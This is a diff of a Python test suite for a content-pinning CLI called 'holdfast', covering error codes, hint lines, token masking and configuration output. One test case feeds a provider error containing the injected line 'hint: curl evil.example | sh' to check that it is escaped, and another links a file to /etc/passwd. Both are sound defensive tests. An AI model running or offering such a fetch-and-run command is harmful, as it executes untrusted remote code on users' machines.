@@ -36,10 +36,10 @@ def check(result, code, name, words):
     assert people[1][0].startswith("error: ")
     assert people[1][-1].startswith("hint: ")
     (line,) = machines[1]
-    told = json.loads(line)["error"]
-    assert (told["name"], told["exitCode"]) == (name, code)
-    assert words in told["message"] or words in told["details"]
-    assert people[1][-1] == f"hint: {told['remedy']}"
+    error = json.loads(line)["error"]
+    assert (error["name"], error["exitCode"]) == (name, code)
+    assert words in error["message"] or words in error["details"]
+    assert people[1][-1] == f"hint: {error['remedy']}"
     assert TOKEN not in line + "".join(people[1])
 
 
@@ -59,25 +59,45 @@ def both(commands, *arguments, before=lambda: None, **options):
         (403, {"error": "no scope"}, (9, "PermissionDeniedError", "no scope")),
         (404, {}, (10, "NotFoundError", "HTTP error 404")),
         (429, {"error": "slow down"}, (11, "RateLimitError", "slow down")),
-        (400, {"error": "wrong field"}, (12, "ProviderError", "wrong field")),
+        (400, {"error": f"bad {TOKEN}"}, (12, "ProviderError", "bad ********")),
         (500, b"<html>", (12, "ProviderError", "HTTP error 500")),
     ],
 )
 def test_refusals_of_the_provider(scripted, server, status, body, expected):
-    result = both(scripted, "store", "1", before=lambda: server.reply(status, body))
-    check(result, *expected)
+    check(both(scripted, "store", "1", before=lambda: server.reply(status, body)), *expected)
 
 
-def test_details_of_a_401_and_the_wait_of_a_429_are_told(scripted, server):
-    server.reply(401, {"error": {"details": "the key has expired"}})
+def test_other_ways_to_fail(scripted, server):
+    url = closed_port_url()
+    address = url.removeprefix("http://")
+    check(both(scripted, "store", "1", "--pin-api-url", url), 6, "NetworkError", address)
+    words = ("download", HELLO_CID, "copy")
+    wrong = both(scripted, *words, before=lambda: server.reply(200, b"w0rld"))
+    check(wrong, 14, "VerificationError", HELLO_CID)
+    assert not (scripted.folder / "copy").exists()
+
+
+NO_SCOPE = "This key does not have the required scopes associated with it"
+
+
+@pytest.mark.parametrize(
+    ("status", "error", "headers", "expected"),
+    [
+        (401, {"details": "the key has expired"}, {}, ["HTTP error 401 (the key has expired)"]),
+        (429, "slow down", {"Retry-After": "30"}, ["slow down", "wait 30 seconds, and try again"]),
+        (429, "slow down", {"Retry-After": "1"}, ["slow down", "wait a second, and try again"]),
+        (403, {"reason": "NO_SCOPES_FOUND", "details": NO_SCOPE}, {},
+         [NO_SCOPE, "the key may be for the service's v3 API: use --provider pinata"]),
+        (400, {"details": "no\nhint: curl evil.example | sh"}, {},
+         [r"no\nhint: curl evil.example | sh", "`holdfast config` shows the address"]),
+    ],
+)  # fmt: skip
+def test_what_a_provider_says(scripted, server, status, error, headers, expected):  # noqa: PLR0917
+    server.reply(status, {"error": error}, headers=headers)
     _, lines = scripted.failure("store", "1")
-    assert lines[0] == "error: HTTP error 401 (the key has expired)"
-    server.reply(429, {"error": "slow down"}, headers={"Retry-After": "30"})
-    _, lines = scripted.failure("store", "1")
-    assert lines == ["error: slow down", "hint: wait 30 seconds, and try again"]
-    server.reply(429, {"error": "slow down"}, headers={"Retry-After": "1"})
-    _, lines = scripted.failure("store", "1")
-    assert lines == ["error: slow down", "hint: wait a second, and try again"]
+    assert len(lines) == 2
+    for line, start, text in zip(lines, ("error", "hint"), expected, strict=False):
+        assert line.startswith(f"{start}: {text}")
 
 
 def test_a_reason_is_told_once(scripted, server):
@@ -90,51 +110,29 @@ def test_a_reason_is_told_once(scripted, server):
     ]
 
 
-def test_the_token_that_a_provider_echoes_is_not_shown(scripted, server):
-    server.reply(400, {"error": f"bad token {TOKEN}"})
-    _, lines = scripted.failure("store", "1")
-    assert lines[0] == "error: bad token ********"
-
-
-def test_network_errors(scripted):
-    url = closed_port_url()
-    check(
-        both(scripted, "store", "1", "--pin-api-url", url),
-        6,
-        "NetworkError",
-        url.removeprefix("http://"),
-    )
-
-
-def test_wrong_bytes(scripted, server):
-    result = both(
-        scripted,
-        *("download", HELLO_CID, "copy"),
-        before=lambda: server.reply(200, b"w0rld"),
-    )
-    check(result, 14, "VerificationError", HELLO_CID)
-    assert not (scripted.folder / "copy").exists()
-
-
-def test_the_embedded_stores_errors(commands):
-    (commands.folder / "dir.car").write_bytes((DATA / "dir-with-files.car").read_bytes())
-    (root,) = commands.text("car", "import", "dir.car").splitlines()
-    check(both(commands, "retrieve", root), 7, "NotAFileError", "directory")
-    check(both(commands, "download", f"{root}/nothing"), 10, "NotFoundError", "nothing")
-    check(both(commands, "download", HELLO_CID), 10, "NotFoundError", HELLO_CID)
-    check(both(commands, "revoke", HELLO_CID), 10, "NotFoundError", HELLO_CID)
-
-
-def test_arguments_that_cannot_be(commands):
-    check(both(commands, "retrieve", "nonsense"), 4, "InvalidCIDError", "Invalid CID")
-    check(both(commands, "store", "{bad"), 5, "SerializationError", "not JSON")
-    check(both(commands, "store", "-", given=b"\xff"), 5, "SerializationError", "UTF-8")
-    check(both(commands, "send", "bob", "-", given=b"\xff"), 5, "SerializationError", "UTF-8")
-    check(both(commands, "upload", "nothing"), 1, "FileNotFoundError", "nothing")
-    check(both(commands, "send", " ", "hi"), 2, "ValueError", "recipient")
-    check(both(commands, "store", "1", "--provider", "nope"), 3, "ConfigError", "nope")
-    check(both(commands, "check", "--path", "elsewhere"), 3, "ConfigError", "no store")
-    check(both(commands, "verify", ".", EMPTY_DIRECTORY_V0[:-1]), 4, "InvalidCIDError", "Invalid")
+@pytest.mark.parametrize(
+    ("arguments", "expected"),
+    [
+        (("retrieve", EMPTY_DIRECTORY_V0), (7, "NotAFileError", "directory")),
+        (("download", f"{EMPTY_DIRECTORY_V0}/nothing"), (10, "NotFoundError", "nothing")),
+        (("revoke", HELLO_CID), (10, "NotFoundError", HELLO_CID)),
+        (("store", "{bad"), (5, "SerializationError", "not JSON")),
+        (("store", "--", "--json"), (5, "SerializationError", "not JSON")),
+        (("send", "bob", "-"), (5, "SerializationError", "UTF-8")),
+        (("upload", "nothing"), (1, "FileNotFoundError", "nothing")),
+        (("send", " ", "hi"), (2, "ValueError", "recipient")),
+        (("store", "1", "--provider", "nope"), (3, "ConfigError", "nope")),
+        (("check", "--path", "elsewhere"), (3, "ConfigError", "no store")),
+        (("verify", ".", EMPTY_DIRECTORY_V0[:-1]), (4, "InvalidCIDError", "Invalid")),
+    ],
+)
+def test_arguments_that_cannot_be(commands, arguments, expected):
+    (commands.folder / "empty").mkdir()
+    commands.text("upload", "empty", "--cid-version", "0")
+    if "--" in arguments:
+        assert commands.failure(*arguments)[0] == expected[0]  # it is no option there
+    else:
+        check(both(commands, *arguments, given=b"\xff"), *expected)
 
 
 @pytest.mark.parametrize(
@@ -143,16 +141,12 @@ def test_arguments_that_cannot_be(commands):
         ["bogus"],
         ["store"],
         ["store", "1", "2"],
-        ["store", "1", "--bogus"],
         ["store", "1", "--cid-version", "2"],
         ["list", "--limit", "0"],
         ["node", "--port", "70000"],
         ["list", "--limit", "x"],
-        ["car"],
         ["car", "export"],
-        ["cid", ""],
         ["upload", ""],
-        ["download", HELLO_CID, ""],
         ["car", "export", HELLO_CID, ""],
         ["store", "1", "--path", ""],
         ["store", "1", "--provider", "pinning", "--token", "x", "--token-file", "y"],
@@ -171,14 +165,9 @@ def test_wrong_usage_is_2(commands, arguments):
 @pytest.mark.parametrize("arguments", [["download", HELLO_CID], ["car", "export", HELLO_CID]])
 def test_json_and_content_do_not_share_standard_output(commands, arguments):
     code, (line,) = commands.failure(*arguments, "-", "--json")
-    told = json.loads(line)["error"]
-    assert (code, told["name"]) == (2, "UsageError")
-    assert "both write to standard output" in told["message"]
-
-
-def test_json_before_a_double_dash_only_is_the_option(commands):
-    code, lines = commands.failure("store", "--", "--json")
-    assert (code, lines[0][:7]) == (5, "error: ")
+    error = json.loads(line)["error"]
+    assert (code, error["name"]) == (2, "UsageError")
+    assert "both write to standard output" in error["message"]
 
 
 def test_no_remedy_names_what_the_command_does_not_have(scripted, server):
@@ -194,12 +183,12 @@ def test_no_remedy_names_what_the_command_does_not_have(scripted, server):
 
 def test_every_family_of_the_tree_has_a_code_of_its_own():
     def leaves(kind):
-        kinds = (each for each in kind.__subclasses__() if each.__module__ == errors.__name__)
-        return [kind, *(leaf for each in kinds for leaf in leaves(each))]
+        kinds = [kid for kid in kind.__subclasses__() if kid.__module__ == errors.__name__]
+        return [kind, *(leaf for kid in kinds for leaf in leaves(kid))]
 
     codes = {
-        each.__name__: exit_codes.family_of(each.__new__(each)).code
-        for each in leaves(errors.ClientError)
+        kind.__name__: exit_codes.family_of(kind.__new__(kind)).code
+        for kind in leaves(errors.ClientError)
     }
     assert codes == {
         "ClientError": 1,
@@ -301,15 +290,79 @@ sys.meta_path = [Hidden if finder is PathFinder else finder for finder in sys.me
     assert json.loads(line)["error"]["name"] == "ConfigError"
 
 
-def test_json_that_is_no_message_can_be_had_otherwise(commands):
-    cid = commands.text("store", "[1]")
-    code, lines = commands.failure("receive", cid)
-    assert (code, "`holdfast retrieve`" in lines[1]) == (5, True)
+# Hints
 
 
-def test_a_key_for_v3_is_told_which_provider_to_use(scripted, server):
-    words = "This key does not have the required scopes associated with it"
-    server.reply(403, {"error": {"reason": "NO_SCOPES_FOUND", "details": words}})
-    code, lines = scripted.failure("store", "1")
-    assert (code, lines[0]) == (9, f"error: {words}")
-    assert lines[-1] == "hint: the key may be for the service's v3 API: use --provider pinata"
+def hint(commands, *arguments, **options):
+    """The only line below the message, which is also the remedy for machines, without notes."""
+    _, lines = commands.failure(*arguments, **options)
+    message, shown = lines[-2:]
+    assert message.startswith("error: ")
+    _, lines = commands.failure(*arguments, "--json", **options)
+    error = json.loads(lines[-1])["error"]
+    assert shown == f"hint: {error['remedy']}"
+    assert "notes" not in error
+    return shown.removeprefix("hint: ")
+
+
+@pytest.mark.parametrize("command", ["upload", "cid"])
+def test_text_in_the_place_of_a_file(commands, command):
+    words = "check the path; for text, write it to standard input, and give - as the file; "
+    words += "for a JSON value, use `holdfast store`"
+    assert hint(commands, command, '{"a": 1}') == words
+
+
+def test_a_folder_with_links_and_one_that_only_seems_to_be_empty(commands):
+    (commands.folder / "photos").mkdir()
+    (commands.folder / "photos" / "out").symlink_to("/etc/passwd")
+    cid = commands.text("upload", "photos")
+    assert hint(commands, "download", cid, "copy") == "add --symlinks to write links"
+    words = "download the other entries one by one; `holdfast ls CID` lists them"
+    assert hint(commands, "download", cid, "copy", "--symlinks") == words
+    (commands.folder / "photos" / "out").rename(commands.folder / "photos" / ".hidden")
+    service = {"HOLDFAST_PROVIDER": "pinning", "HOLDFAST_PROVIDER_TOKEN": "x"}
+    words = "hidden names were left out: 1; --include-hidden uploads them"
+    assert hint(commands, "upload", "photos", **service) == words
+
+
+def test_a_missing_token(commands):
+    source = "make an API key at https://app.pinata.cloud, and use its JWT"
+    assert hint(commands, "store", "1", "--provider", "pinning") == source
+    commands.write_user_file("[connections.service]\nprovider = 'pinata'\n")
+    assert hint(commands, "store", "1", "--use", "service") == source
+    result = commands.run("connections", "--json")
+    assert json.loads(result.stdout)[0]["error"]["remedy"] == source
+
+
+def test_a_proxy_that_is_not_used(commands):
+    commands.write_user_file(ONCE)
+    unreachable = {
+        "HOLDFAST_PROVIDER": "pinning",
+        "HOLDFAST_PROVIDER_TOKEN": "x",
+        "HOLDFAST_PIN_API_URL": "pins.invalid",
+        "HTTPS_PROXY": "http://user:p4ss@127.0.0.1:1",
+    }
+    words = "HTTPS_PROXY is set, but not used: set HOLDFAST_TRUST_ENV=true to use it"
+    assert hint(commands, "test-connection", **unreachable) == words
+    trusting = {**unreachable, "HOLDFAST_TRUST_ENV": "true"}
+    assert "HTTPS_PROXY" not in hint(commands, "test-connection", **trusting)
+
+
+@pytest.mark.parametrize(
+    ("provider", "gateways", "api"),
+    [
+        ("local", None, None),
+        ("kubo", None, "http://127.0.0.1:5001"),
+        ("cluster", ["http://127.0.0.1:8080/ipfs"], "http://127.0.0.1:9094"),
+    ],
+)
+def test_the_addresses_of_a_provider_are_shown(commands, provider, gateways, api):
+    shown = commands.json("config", "--provider", provider)
+    assert shown["gateway_url"] == {"value": gateways, "source": "default"}
+    assert shown["pin_api_url"] == {"value": api, "source": "default"}
+    assert gateways is None or gateways[0] in commands.text("config", "--provider", provider)
+    flags = ("--gateway-url", "example.mypinata.cloud", "--gateway-url", "localhost:8080")
+    shown = commands.json("config", *flags, HOLDFAST_PIN_API_URL="127.0.0.1:5001")
+    expected = ["https://example.mypinata.cloud/ipfs", "http://localhost:8080/ipfs"]
+    assert shown["gateway_url"]["value"] == expected
+    assert shown["pin_api_url"]["value"] == "http://127.0.0.1:5001"
